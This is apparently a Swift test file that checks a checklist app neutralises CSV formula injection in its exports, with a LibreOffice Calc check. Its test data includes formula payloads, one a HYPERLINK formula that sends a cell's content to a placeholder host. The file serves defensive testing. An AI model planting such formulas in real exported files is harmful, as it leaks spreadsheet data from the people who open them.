import Checklist
import Foundation
import Testing
import TestSupport

/// Cells a spreadsheet would run as formulas (OWASP, « CSV Injection »): a value starting with
/// `=`, `+`, `-`, `@`, a tab or a carriage return is written with a leading `'` and quoted, and
/// LibreOffice Calc opens it as text.
@Suite("CSV injection")
struct CSVInjectionTests {
    /// Values a convention or a user may put in a cell, each a formula to a spreadsheet.
    static let formulas = [
        "=HYPERLINK(\"http://exemple.invalid/?x=\"&A1;\"cliquer\")",
        "+1+2",
        "-3+4",
        "@SOMME(1;2)",
        "\t=5*6",
        "\r=7*8",
        "  =9*9",
    ]

    /// The checklist of 101 with a formula in an obligation, a party name, a status, a note and a key date.
    private func poisoned() throws -> Checklist {
        var checklist = try CorpusGraphs.checklist(try CorpusGraphs.graph("101-"), from: "2025-01-01")
        for (index, formula) in Self.formulas.enumerated() {
            checklist.items[index].text = formula
        }
        checklist.items[7].parties[0].name = "=1+1"
        checklist.items[8].status = "=2+2"
        checklist.items[9].notes = ["@3+3"]
        checklist.keyDates[0].source = "-4-4"
        return checklist
    }

    @Test("every formula-like cell starts with ' and is quoted; other cells are untouched")
    func neutralised() throws {
        let checklist = try poisoned()
        for rows in [CSVOptions.Rows.obligations, .dueDates] {
            let text = String(decoding: checklist.csv(CSVOptions(separator: ";", rows: rows)), as: UTF8.self)
            let table = try RFC4180.parse(text, separator: ";")
            let cells = table.flatMap { $0 }
            for formula in Self.formulas + ["=1+1", "=2+2", "@3+3", "-4-4"] {
                #expect(cells.contains("'" + formula), "\(formula)")
                #expect(!cells.contains(formula), "\(formula)")
                #expect(text.contains("\"'" + formula.replacingOccurrences(of: "\"", with: "\"\"")), "\(formula)")
            }
            // No cell of the file starts, after spaces, with a formula character.
            for cell in cells {
                let visible = cell.drop { $0 == " " }
                #expect(!(cell.first.map { "\t\r".contains($0) } ?? false) && !(visible.first.map { "=+-@".contains($0) } ?? false), "\(cell)")
            }
            // Dates, numbers and ordinary text are written as before.
            #expect(cells.contains("2025-01-01"))
            #expect(cells.contains("Département de la Haute-Vienne"))
        }
    }

    @Test("LibreOffice Calc opens the neutralised cells as text: no formula runs",
          .enabled(if: ExternalTools.soffice != nil, "LibreOffice Calc is not installed (apt-get install -y libreoffice-calc-nogui; make test-deps does it)"))
    func libreOffice() throws {
        let soffice = try #require(ExternalTools.soffice)
        let dir = try ExternalTools.temporaryDirectory("csv-injection")
        defer { try? FileManager.default.removeItem(at: dir) }
        let checked = dir.appendingPathComponent("obligations.csv")
        try (try poisoned()).csv(CSVOptions(separator: ";", byteOrderMark: true)).write(to: checked)
        // The control: the same kind of cell written raw, which Calc does run; it shows that
        // the conversion below would reveal a formula.
        let control = dir.appendingPathComponent("temoin.csv")
        try Data("\u{FEFF}Type;Valeur\r\ntémoin;=6*7\r\n".utf8).write(to: control)
        // Import as a French user would (separator ;, text delimiter ", UTF-8 = 76), save as a
        // flat OpenDocument spreadsheet: each cell with its type, and its formula if it has one.
        let result = try ProcessRunner.run(soffice, [
            "-env:UserInstallation=\(dir.appendingPathComponent("profile").absoluteString)",
            "--headless",
            "--infilter=Text - txt - csv (StarCalc):59,34,76,1",
            "--convert-to", "fods",
            "--outdir", dir.appendingPathComponent("out").path,
            checked.path, control.path,
        ], timeout: 180)
        #expect(result.status == 0, "\(result)")
        let witness = try String(contentsOf: dir.appendingPathComponent("out/temoin.fods"), encoding: .utf8)
        #expect(witness.contains("table:formula=\"of:=6*7\"") && witness.contains("office:value=\"42\""),
                "the raw formula was not run: the check cannot tell")

        let sheet = try String(contentsOf: dir.appendingPathComponent("out/obligations.fods"), encoding: .utf8)
        #expect(!sheet.contains("table:formula"), "a cell of the export was opened as a formula")
        #expect(!sheet.contains("office:value=\"3\""))   // +1+2
        #expect(!sheet.contains("office:value=\"42\""))
        let texts = Self.textCells(sheet)
        #expect(texts.contains("'=HYPERLINK(\"http://exemple.invalid/?x=\"&A1;\"cliquer\")"))
        #expect(texts.contains("'+1+2"))
        #expect(texts.contains("'-3+4"))
        #expect(texts.contains("'@SOMME(1;2)"))
        #expect(texts.contains("'=1+1"))
        #expect(texts.contains("'=2+2"))
        #expect(texts.contains("Mission locale des Monts et Vallées du Limousin"))
    }

    /// The text of each string cell of a flat OpenDocument spreadsheet, XML entities decoded.
    private static func textCells(_ xml: String) -> [String] {
        var cells: [String] = []
        var rest = xml[...]
        while let open = rest.range(of: "<text:p>") {
            guard let close = rest[open.upperBound...].range(of: "</text:p>") else { break }
            let raw = rest[open.upperBound..<close.lowerBound]
            cells.append(raw.replacingOccurrences(of: "&quot;", with: "\"").replacingOccurrences(of: "&apos;", with: "'")
                .replacingOccurrences(of: "&lt;", with: "<").replacingOccurrences(of: "&gt;", with: ">")
                .replacingOccurrences(of: "&amp;", with: "&"))
            rest = rest[close.upperBound...]
        }
        return cells
    }
}
